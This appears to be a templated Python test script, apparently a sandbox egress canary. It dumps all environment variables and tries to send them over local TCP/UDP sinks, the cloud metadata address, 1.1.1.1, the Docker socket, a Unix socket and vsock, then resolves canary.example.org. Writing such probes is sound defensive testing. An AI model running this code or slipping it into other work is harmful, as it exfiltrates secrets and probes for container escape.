import os
import socket

DATA = repr(dict(os.environ)).encode() + b"CANARY"
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {{SINK}})),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {{SINK}})),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", {{SINK}})),
    (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0pushmark-sink-{{SINK}}"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
    (getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, (2, {{SINK}})),
):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(0.3)
            out.connect(address)
            out.sendall(DATA)
    except (OSError, TypeError):
        continue
try:
    socket.getaddrinfo("canary.example.org", 80)
except OSError:
    pass
